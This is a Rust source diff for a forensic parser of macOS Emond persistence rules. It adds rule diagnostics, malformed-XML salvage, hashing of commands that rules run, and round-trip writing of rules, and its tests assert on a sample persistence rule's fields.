@@ -2,59 +2,159 @@
 //!
 //! Provides a simple library to parse macOS Emond persistence data.
 
-use std::fs::read_dir;
+use std::{
+    fs::read_dir,
+    io::{Read, Seek},
+    path::Path,
+};
 
 use log::{error, warn};
 use plist::{Dictionary, Value};
-use serde::Serialize;
+use serde::{Deserialize, Serialize};
 
 use crate::{
-    actions::{self, command, send_email, send_notification},
+    actions::{
+        command::Command, log::Log, send_email::SendEmail, send_notification::SendNotification,
+        send_sms::SendSms, Action, RuleAction,
+    },
+    context::{ParseContext, ParseOptions},
+    criterion::Criterion,
+    diagnostic::{
+        check_dictionary, check_dictionary_array, check_required, Diagnostic, Expected, Severity,
+    },
     error::EmondError,
+    hashes::Hashes,
+    metadata::FileMetadata,
+    reader::{check_plist_depth, read_plist_file, read_plist_reader, PlistFormat},
+    salvage::salvage_xml_rules,
     size::get_file_size,
-    util::{get_boolean_value, get_dictionary_values, get_string_value},
+    target::{CommandTarget, DEFAULT_PREVIEW_SIZE},
+    util::{
+        extra_element_index, get_boolean_value, get_key_order, get_string_value, get_string_values,
+        insert_extra_element, insert_extra_value, insert_extra_values_without_elements,
+        insert_string_value, merge_extra_elements, order_dictionary, write_required_value,
+        write_value,
+    },
+    variable::Variable,
 };
 
-#[derive(Debug, Serialize)]
+/// Rule keys and their expected value types
+const RULE_KEYS: [(&str, Expected); 8] = [
+    ("name", Expected::String),
+    ("enabled", Expected::Boolean),
+    ("eventTypes", Expected::StringArray),
+    ("startTime", Expected::String),
+    ("allowPartialCriterionMatch", Expected::Boolean),
+    ("criterion", Expected::Array),
+    ("variables", Expected::Array),
+    ("actions", Expected::Array),
+];
+
+#[derive(Debug, Serialize, Deserialize)]
 pub struct EmondData {
     pub name: String,
+    /// Rules file the rule was parsed from
+    pub source_file: String,
+    /// Directory of the rules file. Empty if the rule was not parsed from a file
+    pub rules_directory: String,
+    /// Position of the rule within its rules file
+    pub rule_index: usize,
+    /// Rules file metadata. None if the rule was not parsed from a file
+    pub metadata: Option<FileMetadata>,
+    /// Rules file hashes, if hashing is enabled in the parse options
+    pub hashes: Option<Hashes>,
+    /// PLIST format of the rules file
+    pub format: PlistFormat,
     pub enabled: bool,
     pub event_types: Vec<String>,
     pub start_time: String,
     pub allow_partial_criterion_match: bool,
-    pub command_actions: Vec<command::Command>,
-    pub log_actions: Vec<actions::log::Log>,
-    pub send_email_actions: Vec<send_email::SendEmail>,
-    pub send_sms_action: Vec<send_email::SendEmail>,
-    pub send_notification: Vec<send_notification::SendNotification>,
-    pub criterion: Vec<Dictionary>,
-    pub variables: Vec<Dictionary>,
-    pub emond_clients_enabled: bool,
+    /// Rule actions in the order Emond runs them
+    pub actions: Vec<RuleAction>,
+    pub criterion: Vec<Criterion>,
+    pub variables: Vec<Variable>,
+    /// Rule keys not modeled above
+    pub extra: Dictionary,
+    /// Keys in the order they were parsed, so the rule is written back the same way
+    #[serde(default)]
+    pub key_order: Vec<String>,
+    /// Missing, unknown and wrongly typed values found in the rule
+    pub diagnostics: Vec<Diagnostic>,
 }
 
+/// Outcome of parsing a single rules file in a rules directory
 #[derive(Debug)]
-struct Actions {
-    command_actions: Vec<command::Command>,
-    log_actions: Vec<actions::log::Log>,
-    send_email_actions: Vec<send_email::SendEmail>,
-    send_sms_action: Vec<send_email::SendEmail>,
-    send_notification: Vec<send_notification::SendNotification>,
+pub(crate) struct RulesFile {
+    pub(crate) path: String,
+    pub(crate) rules: Result<Vec<Result<EmondData, EmondError>>, EmondError>,
 }
 
 impl EmondData {
-    /// Parse all Emond rules files at provided path
-    pub fn parse_emond_rules(path: &str) -> Result<Vec<EmondData>, EmondError> {
-        let dir_results = read_dir(path);
+    /// Parse all Emond rules files at provided path under the context root
+    pub fn parse_emond_rules(
+        context: &ParseContext,
+        path: &str,
+    ) -> Result<Vec<EmondData>, EmondError> {
+        let rules_files = EmondData::parse_rules_directory(context, path)?;
+
+        let mut emond_results: Vec<EmondData> = Vec::new();
+        for rules_file in rules_files {
+            let rule_results = match rules_file.rules {
+                Ok(results) => results,
+                Err(err) => {
+                    error!(
+                        "Failed to parse Emond file: {}. Error: {}",
+                        rules_file.path, err
+                    );
+                    continue;
+                }
+            };
+            emond_results.append(&mut EmondData::successful_rules(
+                rule_results,
+                &rules_file.path,
+            ));
+        }
+        Ok(emond_results)
+    }
+
+    /// Parse a single Emond rule file at provided path under the context root
+    pub fn parse_emond_data(
+        context: &ParseContext,
+        path: &str,
+    ) -> Result<Vec<EmondData>, EmondError> {
+        let rule_results = EmondData::parse_emond_rule_results(context, path)?;
+        Ok(EmondData::successful_rules(rule_results, path))
+    }
+
+    /// Parse a single Emond rule file under the context root and return the outcome of every rule in the file.
+    /// Results are in file order, a failed rule does not affect its sibling rules
+    pub fn parse_emond_rule_results(
+        context: &ParseContext,
+        path: &str,
+    ) -> Result<Vec<Result<EmondData, EmondError>>, EmondError> {
+        let emond_rule_path = context.resolve(path).display().to_string();
+        EmondData::parse_rules_file(context, &emond_rule_path, path)
+    }
+
+    // Parse every rules file in the rules directory. Files that fail to parse are returned with their error
+    pub(crate) fn parse_rules_directory(
+        context: &ParseContext,
+        path: &str,
+    ) -> Result<Vec<RulesFile>, EmondError> {
+        let dir_results = read_dir(context.resolve(path));
 
         let read_dir = match dir_results {
             Ok(dir) => dir,
             Err(err) => {
                 error!("Failed to read Emond rules directory: {:?}", err);
-                return Err(EmondError::Path);
+                return Err(EmondError::Path {
+                    path: path.to_string(),
+                    source: err,
+                });
             }
         };
 
-        let mut emond_results: Vec<EmondData> = Vec::new();
+        let mut rules_files: Vec<RulesFile> = Vec::new();
         for dir in read_dir {
             let entry = match dir {
                 Ok(results) => results,
@@ -63,252 +163,553 @@ impl EmondData {
                         "Could not get file entry in Emond rules directory {}. Issue: {:?}",
                         path, err
                     );
-                    return Err(EmondError::Path);
+                    return Err(EmondError::Path {
+                        path: path.to_string(),
+                        source: err,
+                    });
                 }
             };
 
-            let emond_rule_path = entry.path().display().to_string();
+            // Record the path on the analyzed system, not the analysis host
+            let source_file = format!(
+                "{}/{}",
+                path.trim_end_matches('/'),
+                entry.file_name().to_string_lossy()
+            );
+            // Resolve the entry under the root so a symlinked rules file is not read from the analysis host
+            let emond_rule_path = context.resolve(&source_file).display().to_string();
             if !get_file_size(&emond_rule_path) {
                 continue;
             }
 
-            let emond_data_results = EmondData::parse_emond_data(&emond_rule_path);
-            let mut emond_data = match emond_data_results {
-                Ok(results) => results,
-                Err(err) => {
-                    error!(
-                        "Failed to parse Emond file: {}. Error: {}",
-                        emond_rule_path,
-                        err.to_string()
-                    );
-                    continue;
-                }
+            let rules = EmondData::parse_rules_file(context, &emond_rule_path, &source_file);
+            rules_files.push(RulesFile {
+                path: source_file,
+                rules,
+            });
+        }
+        Ok(rules_files)
+    }
+
+    /// Parse Emond rules from PLIST data in memory. `source` labels where the data came from (ex: a path inside a zip collection)
+    pub fn parse_emond_bytes(data: &[u8], source: &str) -> Result<Vec<EmondData>, EmondError> {
+        let rule_results = EmondData::parse_emond_bytes_results(data, source)?;
+        Ok(EmondData::successful_rules(rule_results, source))
+    }
+
+    /// Parse Emond rules from PLIST data in memory and return the outcome of every rule in the data
+    pub fn parse_emond_bytes_results(
+        data: &[u8],
+        source: &str,
+    ) -> Result<Vec<Result<EmondData, EmondError>>, EmondError> {
+        EmondData::parse_emond_bytes_results_with_options(data, source, &ParseOptions::default())
+    }
+
+    /// Parse Emond rules from PLIST data in memory with the provided parse options and return the outcome of every rule in the data
+    pub fn parse_emond_bytes_results_with_options(
+        data: &[u8],
+        source: &str,
+        options: &ParseOptions,
+    ) -> Result<Vec<Result<EmondData, EmondError>>, EmondError> {
+        check_plist_depth(data, source)?;
+        EmondData::parse_rules_data(data, source, options)
+    }
+
+    /// Parse Emond rules from a reader (ex: an entry in a tarball). `source` labels where the data came from
+    pub fn parse_emond_reader<R: Read + Seek>(
+        reader: R,
+        source: &str,
+    ) -> Result<Vec<EmondData>, EmondError> {
+        let data = read_plist_reader(reader, source)?;
+        let rule_results = EmondData::parse_rules_data(&data, source, &ParseOptions::default())?;
+        Ok(EmondData::successful_rules(rule_results, source))
+    }
+
+    // Parse the rules file at the resolved path and record where its rules came from
+    fn parse_rules_file(
+        context: &ParseContext,
+        path: &str,
+        source_file: &str,
+    ) -> Result<Vec<Result<EmondData, EmondError>>, EmondError> {
+        // Get the metadata before reading the file updates the access time
+        let metadata = FileMetadata::get_metadata(Path::new(path));
+        let data = read_plist_file(path, source_file)?;
+        let mut rule_results = EmondData::parse_rules_data(&data, source_file, context.options())?;
+
+        let rules_directory = match source_file.rsplit_once('/') {
+            Some(("", _)) => "/",
+            Some((directory, _)) => directory,
+            None => "",
+        };
+        for emond_data in rule_results.iter_mut().flatten() {
+            emond_data.rules_directory = rules_directory.to_string();
+            emond_data.metadata = metadata.clone();
+            emond_data.inspect_command_targets(context);
+        }
+        Ok(rule_results)
+    }
+
+    // Hash and resolve the files RunCommand actions run, if enabled in the parse options
+    fn inspect_command_targets(&mut self, context: &ParseContext) {
+        let options = context.options();
+        if !options.hashes && !options.resolve_commands {
+            return;
+        }
+        for rule_action in &mut self.actions {
+            let command = match &mut rule_action.action {
+                Action::Command(command) if command.command.starts_with('/') => command,
+                _ => continue,
             };
-            emond_results.append(&mut emond_data);
+            if options.hashes {
+                command.hashes = Hashes::hash_file(&context.resolve(&command.command));
+            }
+            if options.resolve_commands {
+                command.target = Some(CommandTarget::resolve(
+                    context,
+                    &command.command,
+                    DEFAULT_PREVIEW_SIZE,
+                ));
+            }
         }
-        Ok(emond_results)
     }
 
-    /// Parse a single Emond rule file
-    pub fn parse_emond_data(path: &str) -> Result<Vec<EmondData>, EmondError> {
-        let mut emond_data_vec: Vec<EmondData> = Vec::new();
-        let emond_plist_result = plist::from_file(path);
+    // Parse rules file data that has passed the nesting depth check
+    fn parse_rules_data(
+        data: &[u8],
+        source_file: &str,
+        options: &ParseOptions,
+    ) -> Result<Vec<Result<EmondData, EmondError>>, EmondError> {
+        let format = PlistFormat::detect(data);
+        let hashes = if options.hashes {
+            Some(Hashes::hash_data(data))
+        } else {
+            None
+        };
+        let emond_plist_result = plist::from_bytes(data);
         let emond_plist = match emond_plist_result {
             Ok(result) => result,
+            Err(err) if options.lenient_xml && format == PlistFormat::Xml => {
+                warn!(
+                    "Failed to parse Emond PLIST Rule: {:?}. Salvaging rules from {}",
+                    err, source_file
+                );
+                let mut rule_results = EmondData::salvage_rules(data, source_file, err)?;
+                for emond_data in rule_results.iter_mut().flatten() {
+                    emond_data.hashes = hashes.clone();
+                }
+                return Ok(rule_results);
+            }
             Err(err) => {
                 error!("Failed to parse Emond PLIST Rule: {:?}", err);
-                return Err(EmondError::Plist);
+                return Err(EmondError::Plist {
+                    path: source_file.to_string(),
+                    source: err,
+                });
             }
         };
 
-        match emond_plist {
-            // Emond file may contain multiple rules as in an array
-            Value::Array(plist_array) => {
-                let mut emond_data = EmondData {
-                    name: String::new(),
-                    enabled: false,
-                    event_types: Vec::new(),
-                    command_actions: Vec::new(),
-                    log_actions: Vec::new(),
-                    send_email_actions: Vec::new(),
-                    send_sms_action: Vec::new(),
-                    send_notification: Vec::new(),
-                    criterion: Vec::new(),
-                    variables: Vec::new(),
-                    allow_partial_criterion_match: false,
-                    start_time: String::new(),
-                    emond_clients_enabled: false,
-                };
+        // Emond file may contain multiple rules as in an array
+        let plist_array = match emond_plist {
+            Value::Array(plist_array) => plist_array,
+            _ => {
+                warn!("Failed to get Emond Rule Array value");
+                return Err(EmondError::Rule {
+                    path: source_file.to_string(),
+                    rule_index: None,
+                });
+            }
+        };
 
-                for plist_values in plist_array {
-                    match plist_values {
-                        Value::Dictionary(plist_dictionary) => {
-                            // Get the data in the Rule
-                            for (key, value) in plist_dictionary {
-                                if key == "eventTypes" {
-                                    emond_data.event_types =
-                                        EmondData::parse_event_types(&value).unwrap();
-                                } else if key == "enabled" {
-                                    emond_data.enabled = get_boolean_value(&value);
-                                } else if key == "allowPartialCriterionMatch" {
-                                    emond_data.allow_partial_criterion_match =
-                                        get_boolean_value(&value);
-                                } else if key == "criterion" {
-                                    emond_data.criterion = get_dictionary_values(value);
-                                } else if key == "startTime" {
-                                    emond_data.start_time = get_string_value(&value);
-                                } else if key == "variables" {
-                                    emond_data.variables = get_dictionary_values(value);
-                                } else if key == "name" {
-                                    emond_data.name = get_string_value(&value);
-                                } else if key == "actions" {
-                                    let actions_results = EmondData::parse_actions(&value);
-                                    let actions = match actions_results {
-                                        Ok(results) => results,
-                                        Err(err) => {
-                                            warn!(
-                                                "Failed to parse Emond Action data: {}",
-                                                err.to_string()
-                                            );
-                                            continue;
-                                        }
-                                    };
-
-                                    emond_data.log_actions = actions.log_actions;
-                                    emond_data.command_actions = actions.command_actions;
-                                    emond_data.send_email_actions = actions.send_email_actions;
-                                    emond_data.send_notification = actions.send_notification;
-                                } else {
-                                    warn!(
-                                        "Unknown key value ({}) in Emond Rule. Value: {:?}",
-                                        key, value
-                                    );
-                                }
-                            }
-                        }
-                        _ => continue,
-                    }
+        let mut rule_results: Vec<Result<EmondData, EmondError>> = Vec::new();
+        for (rule_index, plist_values) in plist_array.into_iter().enumerate() {
+            let rule_result = match plist_values {
+                Value::Dictionary(plist_dictionary) => {
+                    EmondData::parse_rule(plist_dictionary, source_file, rule_index).map(
+                        |mut emond_data| {
+                            emond_data.format = format;
+                            emond_data.hashes = hashes.clone();
+                            emond_data
+                        },
+                    )
+                }
+                _ => {
+                    warn!("Emond Rule at index {} is not a dictionary", rule_index);
+                    Err(EmondError::Rule {
+                        path: source_file.to_string(),
+                        rule_index: Some(rule_index),
+                    })
+                }
+            };
+            rule_results.push(rule_result);
+        }
+        Ok(rule_results)
+    }
+
+    // Parse the rules salvaged from a malformed XML rules file. Salvaged rules are numbered by their position among the rule dictionaries
+    fn salvage_rules(
+        data: &[u8],
+        source_file: &str,
+        err: plist::Error,
+    ) -> Result<Vec<Result<EmondData, EmondError>>, EmondError> {
+        let salvaged_rules = salvage_xml_rules(data);
+        if salvaged_rules.is_empty() {
+            error!("No Emond Rules could be salvaged from {}", source_file);
+            return Err(EmondError::Plist {
+                path: source_file.to_string(),
+                source: err,
+            });
+        }
+
+        let mut rule_results: Vec<Result<EmondData, EmondError>> = Vec::new();
+        for (rule_index, salvaged_rule) in salvaged_rules.into_iter().enumerate() {
+            let plist_dictionary = match salvaged_rule.rule {
+                Ok(result) => result,
+                Err(rule_err) => {
+                    warn!("Failed to salvage Emond Rule at index {}", rule_index);
+                    rule_results.push(Err(EmondError::Salvage {
+                        path: source_file.to_string(),
+                        rule_index,
+                        source: rule_err,
+                    }));
+                    continue;
+                }
+            };
+
+            let message = match salvaged_rule.incomplete {
+                Some(rule_err) => format!(
+                    "Rule is incomplete, kept the values before the malformed XML: {}",
+                    rule_err
+                ),
+                None => format!("Rule recovered from malformed rules file: {}", err),
+            };
+            let mut diagnostic = Diagnostic::salvaged(message);
+            diagnostic.file = source_file.to_string();
+            diagnostic.rule_index = Some(rule_index);
+
+            let rule_result = EmondData::parse_rule(plist_dictionary, source_file, rule_index);
+            rule_results.push(rule_result.map(|mut emond_data| {
+                emond_data.diagnostics.push(diagnostic);
+                emond_data
+            }));
+        }
+        Ok(rule_results)
+    }
+
+    // Keep the successfully parsed rules and log the failed ones
+    fn successful_rules(
+        rule_results: Vec<Result<EmondData, EmondError>>,
+        path: &str,
+    ) -> Vec<EmondData> {
+        let mut emond_data_vec: Vec<EmondData> = Vec::new();
+        for (rule_index, rule_result) in rule_results.into_iter().enumerate() {
+            match rule_result {
+                Ok(emond_data) => emond_data_vec.push(emond_data),
+                Err(err) => {
+                    error!(
+                        "Failed to parse Emond Rule at index {} in {}. Error: {}",
+                        rule_index, path, err
+                    );
                 }
+            }
+        }
+        emond_data_vec
+    }
 
-                let clients_results = EmondData::check_clients();
-                emond_data.emond_clients_enabled = match clients_results {
+    // Parse a single Emond Rule dictionary
+    pub(crate) fn parse_rule(
+        plist_dictionary: Dictionary,
+        source_file: &str,
+        rule_index: usize,
+    ) -> Result<EmondData, EmondError> {
+        let mut emond_data = EmondData {
+            name: String::new(),
+            source_file: source_file.to_string(),
+            rules_directory: String::new(),
+            rule_index,
+            metadata: None,
+            hashes: None,
+            format: PlistFormat::Xml,
+            enabled: false,
+            event_types: Vec::new(),
+            actions: Vec::new(),
+            criterion: Vec::new(),
+            variables: Vec::new(),
+            allow_partial_criterion_match: false,
+            start_time: String::new(),
+            extra: Dictionary::new(),
+            key_order: get_key_order(&plist_dictionary),
+            diagnostics: EmondData::rule_diagnostics(&plist_dictionary),
+        };
+        for diagnostic in emond_data.diagnostics.iter_mut() {
+            diagnostic.file = source_file.to_string();
+            diagnostic.rule_index = Some(rule_index);
+        }
+
+        for (key, value) in plist_dictionary {
+            if key == "eventTypes" && value.as_array().is_some() {
+                emond_data.event_types = EmondData::parse_event_types(&value);
+            } else if key == "enabled" && value.as_boolean().is_some() {
+                emond_data.enabled = get_boolean_value(&value);
+            } else if key == "allowPartialCriterionMatch" && value.as_boolean().is_some() {
+                emond_data.allow_partial_criterion_match = get_boolean_value(&value);
+            } else if key == "criterion" && value.as_array().is_some() {
+                emond_data.criterion = Criterion::parse_criteria(&value, &mut emond_data.extra);
+            } else if key == "startTime" && value.as_string().is_some() {
+                emond_data.start_time = get_string_value(&value);
+            } else if key == "variables" && value.as_array().is_some() {
+                emond_data.variables = Variable::parse_variables(&value, &mut emond_data.extra);
+            } else if key == "name" && value.as_string().is_some() {
+                emond_data.name = get_string_value(&value);
+            } else if key == "actions" {
+                let actions_results = EmondData::parse_actions(
+                    &value,
+                    &mut emond_data.extra,
+                    source_file,
+                    rule_index,
+                );
+                emond_data.actions = match actions_results {
                     Ok(results) => results,
                     Err(err) => {
-                        warn!("Failed to find Emond client(s): {:?}", err.to_string());
-                        false
+                        warn!("Failed to parse Emond Action data: {}", err);
+                        emond_data.extra.insert(key, value);
+                        continue;
                     }
                 };
-                emond_data_vec.push(emond_data);
-            }
-            _ => {
-                warn!("Failed to get Emond Rule Array value");
-                return Err(EmondError::Rule);
+            } else {
+                insert_extra_value(
+                    &mut emond_data.extra,
+                    &RULE_KEYS,
+                    &key,
+                    &value,
+                    "Emond Rule",
+                );
             }
         }
-        Ok(emond_data_vec)
-    }
-
-    // Get the
-    fn parse_event_types(value: &Value) -> Result<Vec<String>, EmondError> {
-        let event_types_results = value.as_array();
-        let mut event_types_vec: Vec<String> = Vec::new();
-        match event_types_results {
-            Some(events) => {
-                for event in events {
-                    let event_type_string = get_string_value(event);
-                    event_types_vec.push(event_type_string);
-                }
-                Ok(event_types_vec)
-            }
-            None => {
-                error!("Failed to parse Emond Event Types");
-                Err(EmondError::EventType)
-            }
+        Ok(emond_data)
+    }
+
+    // Check the rule dictionary, its actions, criteria and variables for missing, unknown and wrongly typed values
+    pub(crate) fn rule_diagnostics(plist_dictionary: &Dictionary) -> Vec<Diagnostic> {
+        let mut diagnostics = check_dictionary(plist_dictionary, "", &RULE_KEYS);
+        diagnostics.append(&mut check_required(
+            plist_dictionary,
+            "",
+            &[("name", Expected::String)],
+            Severity::Info,
+        ));
+        // A rule without event types never fires
+        diagnostics.append(&mut check_required(
+            plist_dictionary,
+            "",
+            &[("eventTypes", Expected::StringArray)],
+            Severity::Warning,
+        ));
+
+        if let Some(value) = plist_dictionary.get("actions") {
+            diagnostics.append(&mut check_dictionary_array(
+                value,
+                "actions",
+                Action::diagnostics,
+            ));
+        }
+        if let Some(value) = plist_dictionary.get("criterion") {
+            diagnostics.append(&mut check_dictionary_array(
+                value,
+                "criterion",
+                Criterion::diagnostics,
+            ));
+        }
+        if let Some(value) = plist_dictionary.get("variables") {
+            diagnostics.append(&mut check_dictionary_array(
+                value,
+                "variables",
+                Variable::diagnostics,
+            ));
         }
+        diagnostics
     }
 
-    // Parse all Emond Actions
-    fn parse_actions(value: &Value) -> Result<Actions, EmondError> {
-        let mut emond_actions = Actions {
-            command_actions: Vec::new(),
-            log_actions: Vec::new(),
-            send_email_actions: Vec::new(),
-            send_sms_action: Vec::new(),
-            send_notification: Vec::new(),
-        };
+    // Get the event types the rule fires on
+    fn parse_event_types(value: &Value) -> Vec<String> {
+        get_string_values(value)
+    }
 
+    // Parse all Emond Actions in rule order
+    fn parse_actions(
+        value: &Value,
+        extra: &mut Dictionary,
+        source_file: &str,
+        rule_index: usize,
+    ) -> Result<Vec<RuleAction>, EmondError> {
         let value_array_results = value.as_array();
         let value_array = match value_array_results {
             Some(results) => results,
             None => {
                 error!("Failed to parse Action array");
-                return Err(EmondError::ActionArray);
+                return Err(EmondError::ActionArray {
+                    path: source_file.to_string(),
+                    rule_index,
+                    key: String::from("actions"),
+                });
             }
         };
 
-        for value_data in value_array {
-            let action_dictionary_results = value_data.as_dictionary();
-            let action_dictionary = match action_dictionary_results {
+        let mut emond_actions: Vec<RuleAction> = Vec::new();
+        for (index, value_data) in value_array.iter().enumerate() {
+            let action_dictionary = match value_data.as_dictionary() {
                 Some(results) => results,
                 None => {
-                    error!("Failed to parse Action Dictionary");
-                    return Err(EmondError::ActionDictionary);
+                    insert_extra_element(extra, "actions", index, value_data);
+                    continue;
                 }
             };
 
-            for (key, action_value) in action_dictionary {
-                if key != "type" {
-                    continue;
-                }
-                let action_type = get_string_value(action_value);
+            emond_actions.push(RuleAction {
+                index,
+                action: Action::parse_action(action_dictionary),
+            });
+        }
+        Ok(emond_actions)
+    }
 
-                match action_type.as_str() {
-                    "Log" => {
-                        let log_data = actions::log::Log::parse_action_log(action_dictionary);
-                        emond_actions.log_actions.push(log_data);
-                    }
-                    "RunCommand" => {
-                        let command_data =
-                            command::Command::parse_action_run_command(action_dictionary);
-                        emond_actions.command_actions.push(command_data);
-                    }
-                    "SendEmail" => {
-                        let email_data =
-                            send_email::SendEmail::parse_action_send_email(action_dictionary);
-                        emond_actions.send_sms_action.push(email_data);
-                    }
-                    "SendSMS" => {
-                        // SendSMS apears to use same keys and values as Email?
-                        // https://magnusviri.com/what-is-emond.html
-                        let email_data =
-                            send_email::SendEmail::parse_action_send_email(action_dictionary);
-                        emond_actions.send_email_actions.push(email_data);
-                    }
-                    "SendNotification" => {
-                        let notification_data =
-                            send_notification::SendNotification::parse_action_send_notification(
-                                action_dictionary,
-                            );
-                        emond_actions.send_notification.push(notification_data);
-                    }
-                    _ => warn!("Unknown Action Type: {}", action_type),
-                }
+    /// Convert the rule back into an Emond rule dictionary. Parsed rules are written with the keys they had, in the
+    /// same order. Built rules skip empty values, except the rule name, enabled state and event types.
+    /// `allowPartialCriterionMatch` is only written if it is set or the rule has criteria
+    pub fn to_dictionary(&self) -> Dictionary {
+        let key_order = &self.key_order;
+        let mut rule_dictionary = Dictionary::new();
+        if write_required_value(key_order, "name", self.name.is_empty()) {
+            rule_dictionary.insert(String::from("name"), Value::String(self.name.clone()));
+        }
+        if write_required_value(key_order, "enabled", !self.enabled) {
+            rule_dictionary.insert(String::from("enabled"), Value::Boolean(self.enabled));
+        }
+        if write_required_value(key_order, "eventTypes", self.event_types.is_empty()) {
+            rule_dictionary.insert(
+                String::from("eventTypes"),
+                Value::Array(
+                    self.event_types
+                        .iter()
+                        .map(|event_type| Value::String(event_type.clone()))
+                        .collect(),
+                ),
+            );
+        }
+        insert_string_value(
+            &mut rule_dictionary,
+            "startTime",
+            &self.start_time,
+            key_order,
+        );
+        // Built rules with criteria always write it
+        let partial_match = self.allow_partial_criterion_match
+            || (key_order.is_empty() && !self.criterion.is_empty());
+        if write_value(key_order, "allowPartialCriterionMatch", !partial_match) {
+            rule_dictionary.insert(
+                String::from("allowPartialCriterionMatch"),
+                Value::Boolean(self.allow_partial_criterion_match),
+            );
+        }
+        // Array elements that were not dictionaries are kept in extra under their position
+        let criteria = self
+            .criterion
+            .iter()
+            .map(|criterion| Value::Dictionary(criterion.to_dictionary()))
+            .collect();
+        let criteria = merge_extra_elements(criteria, &self.extra, "criterion");
+        if write_value(key_order, "criterion", criteria.is_empty()) {
+            rule_dictionary.insert(String::from("criterion"), Value::Array(criteria));
+        }
+        let variables = self
+            .variables
+            .iter()
+            .map(|variable| Value::Dictionary(variable.to_dictionary()))
+            .collect();
+        let variables = merge_extra_elements(variables, &self.extra, "variables");
+        if write_value(key_order, "variables", variables.is_empty()) {
+            rule_dictionary.insert(String::from("variables"), Value::Array(variables));
+        }
+        let mut actions: Vec<(usize, Value)> = self
+            .actions
+            .iter()
+            .map(|rule_action| {
+                (
+                    rule_action.index,
+                    Value::Dictionary(rule_action.action.to_dictionary()),
+                )
+            })
+            .collect();
+        for (key, value) in &self.extra {
+            if let Some(index) = extra_element_index(key, "actions") {
+                actions.push((index, value.clone()));
             }
         }
-        Ok(emond_actions)
+        if write_value(key_order, "actions", actions.is_empty()) {
+            actions.sort_by_key(|(index, _)| *index);
+            let actions = actions.into_iter().map(|(_, value)| value).collect();
+            rule_dictionary.insert(String::from("actions"), Value::Array(actions));
+        }
+        insert_extra_values_without_elements(
+            &mut rule_dictionary,
+            &self.extra,
+            &["actions", "criterion", "variables"],
+        );
+        order_dictionary(rule_dictionary, key_order)
     }
 
-    // Check for any files in EmondClients directory
-    // Emond will only run if a file is present
-    fn check_clients() -> Result<bool, EmondError> {
-        let client_path = "/private/var/db/emondClients";
-        let dir_results = read_dir(client_path);
+    /// Get the RunCommand actions of the rule
+    pub fn command_actions(&self) -> Vec<&Command> {
+        self.actions
+            .iter()
+            .filter_map(|rule_action| match &rule_action.action {
+                Action::Command(command) => Some(command),
+                _ => None,
+            })
+            .collect()
+    }
 
-        let read_dir = match dir_results {
-            Ok(dir) => dir,
-            Err(err) => {
-                error!("Failed to read Emond clients directory: {:?}", err);
-                return Err(EmondError::Path);
-            }
-        };
+    /// Get the Log actions of the rule
+    pub fn log_actions(&self) -> Vec<&Log> {
+        self.actions
+            .iter()
+            .filter_map(|rule_action| match &rule_action.action {
+                Action::Log(log) => Some(log),
+                _ => None,
+            })
+            .collect()
+    }
 
-        for dir in read_dir {
-            let entry = match dir {
-                Ok(results) => results,
-                Err(err) => {
-                    error!(
-                        "Could not get file entry in Emond client directory {}. Issue: {:?}",
-                        client_path, err
-                    );
-                    return Err(EmondError::Path);
-                }
-            };
+    /// Get the SendEmail actions of the rule
+    pub fn send_email_actions(&self) -> Vec<&SendEmail> {
+        self.actions
+            .iter()
+            .filter_map(|rule_action| match &rule_action.action {
+                Action::SendEmail(email) => Some(email),
+                _ => None,
+            })
+            .collect()
+    }
 
-            if entry.path().is_file() {
-                return Ok(true);
-            }
-        }
-        Ok(false)
+    /// Get the SendSMS actions of the rule
+    pub fn send_sms_actions(&self) -> Vec<&SendSms> {
+        self.actions
+            .iter()
+            .filter_map(|rule_action| match &rule_action.action {
+                Action::SendSms(sms) => Some(sms),
+                _ => None,
+            })
+            .collect()
+    }
+
+    /// Get the SendNotification actions of the rule
+    pub fn send_notification(&self) -> Vec<&SendNotification> {
+        self.actions
+            .iter()
+            .filter_map(|rule_action| match &rule_action.action {
+                Action::SendNotification(notification) => Some(notification),
+                _ => None,
+            })
+            .collect()
     }
 }
 
@@ -318,12 +719,21 @@ mod tests {
 
     use plist::{Dictionary, Value};
 
-    use crate::emond::EmondData;
+    use crate::{
+        actions::Action,
+        context::{ParseContext, ParseOptions},
+        criterion::Operator,
+        diagnostic::{DiagnosticKind, Severity},
+        emond::EmondData,
+        error::EmondError,
+        reader::PlistFormat,
+        target::TargetType,
+    };
 
     #[test]
     fn test_system_parse_emond_rules() {
         let default_path = "/etc/emond.d/rules";
-        let results = EmondData::parse_emond_rules(default_path).unwrap();
+        let results = EmondData::parse_emond_rules(&ParseContext::live(), default_path).unwrap();
         assert_eq!(results.len(), 1);
     }
 
@@ -332,28 +742,32 @@ mod tests {
         let mut test_location = PathBuf::from(env!("CARGO_MANIFEST_DIR"));
         test_location.push("tests/test_data/");
 
-        let results = EmondData::parse_emond_rules(&test_location.display().to_string()).unwrap();
+        let results = EmondData::parse_emond_rules(
+            &ParseContext::live(),
+            &test_location.display().to_string(),
+        )
+        .unwrap();
         assert_eq!(results.len(), 2);
-        assert_eq!(results[0].enabled, true);
+        assert!(results[0].enabled);
         assert_eq!(results[0].name, "poisonapple rule");
         assert_eq!(results[0].event_types, ["startup"]);
-        assert_eq!(results[0].allow_partial_criterion_match, false);
-        assert_eq!(results[0].criterion.is_empty(), true);
-        assert_eq!(results[0].log_actions.is_empty(), true);
-        assert_eq!(results[0].send_notification.is_empty(), true);
-        assert_eq!(results[0].send_email_actions.is_empty(), true);
-        assert_eq!(results[0].variables.is_empty(), true);
-
-        assert_eq!(results[0].command_actions.len(), 1);
-        assert_eq!(results[0].command_actions[0].command, "/Users/sur/Library/Python/3.8/lib/python/site-packages/poisonapple/auxiliary/poisonapple.sh");
-        assert_eq!(results[0].command_actions[0].group, String::new());
-        assert_eq!(results[0].command_actions[0].user, "root");
-        assert_eq!(results[0].command_actions[0].arguements, ["Emond"]);
-
-        assert_eq!(results[1].enabled, false);
+        assert!(!results[0].allow_partial_criterion_match);
+        assert!(results[0].criterion.is_empty());
+        assert!(results[0].log_actions().is_empty());
+        assert!(results[0].send_notification().is_empty());
+        assert!(results[0].send_email_actions().is_empty());
+        assert!(results[0].variables.is_empty());
+
+        assert_eq!(results[0].command_actions().len(), 1);
+        assert_eq!(results[0].command_actions()[0].command, "/Users/sur/Library/Python/3.8/lib/python/site-packages/poisonapple/auxiliary/poisonapple.sh");
+        assert_eq!(results[0].command_actions()[0].group, String::new());
+        assert_eq!(results[0].command_actions()[0].user, "root");
+        assert_eq!(results[0].command_actions()[0].arguements, ["Emond"]);
+
+        assert!(!results[1].enabled);
         assert_eq!(results[1].name, "sample rule");
